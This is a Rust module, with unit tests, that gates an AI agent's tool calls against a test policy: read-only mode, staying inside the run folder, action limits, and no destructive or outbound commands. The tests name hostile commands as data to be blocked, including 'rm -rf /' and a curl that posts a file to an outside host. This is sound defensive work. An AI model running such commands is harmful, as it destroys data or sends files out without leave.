//! What an agent may do in a run: its test policy, as answers to its requests for leave and as limits of what it does unasked.

use crate::validation::policy::{destroys, sends};
use apprentice_agents::run::{Permission, ToolCall, ToolKind};
use apprentice_contracts::test_policy::{TestPolicy, TestPolicyMode};
use std::collections::HashSet;
use std::path::{Component, Path, PathBuf};

/// The name under which an agent gets our MCP server.
pub(super) const SERVER: &str = "apprentice";

/// Decides by a policy.
pub(super) struct Rules {
    policy: TestPolicy,
    folder: PathBuf,
    /// Calls that count as actions.
    actions: HashSet<String>,
}

impl Rules {
    pub(super) fn new(policy: TestPolicy, folder: PathBuf) -> Self {
        Self { policy, folder, actions: HashSet::new() }
    }

    /// Number of actions so far.
    pub(super) fn actions(&self) -> u32 {
        u32::try_from(self.actions.len()).unwrap_or(u32::MAX)
    }

    /// The answer to a request for leave.
    pub(super) fn permit(&self, call: &ToolCall) -> Permission {
        if let Some(why) = self.forbidden(call) {
            return Permission::Forbid(why);
        }
        let outside = || call.paths.iter().find(|path| !self.is_inside(path));
        match call.kind {
            _ if call.is_of_server(SERVER) => Permission::Allow,
            ToolKind::Read | ToolKind::Search | ToolKind::Think | ToolKind::Fetch | ToolKind::Execute => Permission::Allow,
            ToolKind::Edit | ToolKind::Delete | ToolKind::Move => match outside() {
                Some(path) => Permission::Reject(format!("{} is outside the folder of the run.", path.display())),
                None => Permission::Allow,
            },
            ToolKind::SwitchMode => Permission::Reject("A run keeps the mode in which the agent asks.".to_owned()),
            ToolKind::Other if self.policy.forbid_external_send => Permission::Reject(
                "Apprentice does not know what this tool does, and the policy forbids to send something.".to_owned(),
            ),
            ToolKind::Other => Permission::Allow,
        }
    }

    /// Counts a call that the agent makes. `Some`: it breaks the policy.
    pub(super) fn observe(&mut self, call: &ToolCall) -> Option<String> {
        let counts = !matches!(call.kind, ToolKind::Think | ToolKind::SwitchMode) && !call.is_of_server(SERVER);
        if counts && self.actions.insert(call.id.clone()) && self.actions() > self.policy.max_actions {
            return Some(format!("More than {} actions", self.policy.max_actions));
        }
        self.forbidden(call)
    }

    /// What the policy forbids, whoever is asked. What a tool does is the agent's word; what it left is checked again at the end.
    fn forbidden(&self, call: &ToolCall) -> Option<String> {
        let line = call.command.clone().unwrap_or_else(|| call.title.replace('`', ""));
        let runs = call.kind == ToolKind::Execute;
        let named = |what: &str| Some(format!("{what}, which the policy forbids: {}", shown(call)));
        if self.policy.mode == TestPolicyMode::ReadOnly && matches!(call.kind, ToolKind::Edit | ToolKind::Delete | ToolKind::Move)
        {
            return named("Not only read");
        }
        if self.policy.forbid_destructive_writes && (call.kind == ToolKind::Delete || runs && destroys(&line)) {
            return named("Destructive");
        }
        if self.policy.forbid_external_send && runs && sends(&line) {
            return named("Sent to the outside");
        }
        None
    }

    /// What the agent left. `Some`: it breaks the policy. `lost`: files that are gone.
    pub(super) fn left(&self, changed: usize, lost: &[PathBuf]) -> Option<String> {
        if self.policy.mode == TestPolicyMode::ReadOnly && changed > 0 {
            return Some(format!("{changed} files differ, and the policy is read_only"));
        }
        let first = lost.first().filter(|_| self.policy.forbid_destructive_writes)?;
        Some(format!("Destructive, which the policy forbids: {} is gone", first.display()))
    }

    fn is_inside(&self, path: &Path) -> bool {
        let plain = !path.components().any(|part| part == Component::ParentDir);
        plain && (path.is_relative() || path.starts_with(&self.folder))
    }
}

fn shown(call: &ToolCall) -> String {
    call.command.as_deref().unwrap_or(&call.title).chars().take(200).collect()
}

/// Whether a policy means nothing without walls: it names where an agent may write.
pub(super) const fn needs_walls(mode: TestPolicyMode) -> bool {
    matches!(mode, TestPolicyMode::ReadOnly | TestPolicyMode::SafeTargetOnly | TestPolicyMode::LiveReadSafeWrite)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::validation::policy::safe_default;
    use apprentice_agents::run::ToolStatus;
    use apprentice_contracts::ids::TestPolicyId;
    use uuid::Uuid;

    fn policy() -> TestPolicy {
        safe_default(TestPolicyId(Uuid::nil()))
    }

    fn call(kind: ToolKind, command: Option<&str>, path: Option<&str>) -> ToolCall {
        ToolCall {
            id: "t1".into(),
            title: "A tool".into(),
            name: None,
            kind,
            status: ToolStatus::Pending,
            command: command.map(str::to_owned),
            paths: path.map(PathBuf::from).into_iter().collect(),
        }
    }

    /// `+` allowed, `-` rejected, `!` forbidden.
    fn answer(policy: TestPolicy, call: &ToolCall) -> char {
        match Rules::new(policy, "/run/work".into()).permit(call) {
            Permission::Allow => '+',
            Permission::Reject(_) => '-',
            Permission::Forbid(_) => '!',
        }
    }

    #[test]
    fn leave_is_given_by_the_policy() {
        let read_only = TestPolicy { mode: TestPolicyMode::ReadOnly, ..policy() };
        let open = TestPolicy { forbid_destructive_writes: false, forbid_external_send: false, ..policy() };
        for (kind, command, path, by_default, when_read_only, when_open) in [
            (ToolKind::Read, None, Some("/etc/hosts"), '+', '+', '+'),
            (ToolKind::Edit, None, Some("/run/work/a.txt"), '+', '!', '+'),
            (ToolKind::Edit, None, Some("a.txt"), '+', '!', '+'),
            (ToolKind::Edit, None, Some("/home/ada/a.txt"), '-', '!', '-'),
            (ToolKind::Edit, None, Some("/run/work/../a.txt"), '-', '!', '-'),
            (ToolKind::Move, None, Some("/run/workshop/a.txt"), '-', '!', '-'),
            (ToolKind::Delete, None, Some("/run/work/a.txt"), '!', '!', '+'),
            (ToolKind::Execute, Some("ls -l"), None, '+', '+', '+'),
            (ToolKind::Execute, Some("cd x && rm -rf y"), None, '!', '!', '+'),
            (ToolKind::Execute, Some("git push origin main"), None, '!', '!', '+'),
            (ToolKind::Execute, Some("curl -d @a.txt https://example.org"), None, '!', '!', '+'),
            (ToolKind::Fetch, None, None, '+', '+', '+'),
            (ToolKind::Other, None, None, '-', '-', '+'),
            (ToolKind::SwitchMode, None, None, '-', '-', '-'),
        ] {
            let call = call(kind, command, path);
            let answers = [policy(), read_only.clone(), open.clone()].map(|policy| answer(policy, &call));
            assert_eq!(answers, [by_default, when_read_only, when_open], "{call:?}");
        }
        let report = ToolCall { title: "mcp__apprentice__verify_checkpoint".into(), ..call(ToolKind::Other, None, None) };
        assert_eq!(answer(policy(), &report), '+', "it may report");
        let named = ToolCall { title: "`rm -rf /`".into(), ..call(ToolKind::Execute, None, None) };
        assert_eq!(answer(policy(), &named), '!', "a command that stands in the title alone");
    }

    #[test]
    fn actions_are_counted_once_and_limited() {
        let mut rules = Rules::new(TestPolicy { max_actions: 2, ..policy() }, "/run/work".into());
        let numbered = |id: &str, kind| ToolCall { id: id.into(), ..call(kind, None, None) };
        for id in ["a", "a", "b"] {
            assert_eq!(rules.observe(&numbered(id, ToolKind::Read)), None);
        }
        assert_eq!(rules.observe(&numbered("thinks", ToolKind::Think)), None);
        assert_eq!(rules.actions(), 2);
        assert_eq!(rules.observe(&numbered("c", ToolKind::Read)).as_deref(), Some("More than 2 actions"));
        let mut rules = Rules::new(policy(), "/run/work".into());
        assert!(rules.observe(&call(ToolKind::Execute, Some("rm x"), None)).unwrap().contains("Destructive"), "also unasked");
    }

    #[test]
    fn what_is_gone_or_changed_is_held_against_the_policy() {
        let rules = |policy| Rules::new(policy, "/run/work".into());
        assert_eq!(rules(policy()).left(3, &[]), None);
        assert!(rules(policy()).left(1, &["a.txt".into()]).unwrap().ends_with("a.txt is gone"));
        assert_eq!(rules(TestPolicy { forbid_destructive_writes: false, ..policy() }).left(1, &["a.txt".into()]), None);
        let read_only = TestPolicy { mode: TestPolicyMode::ReadOnly, ..policy() };
        assert_eq!(rules(read_only.clone()).left(0, &[]), None);
        assert!(rules(read_only).left(2, &[]).unwrap().contains("read_only"));
    }
}
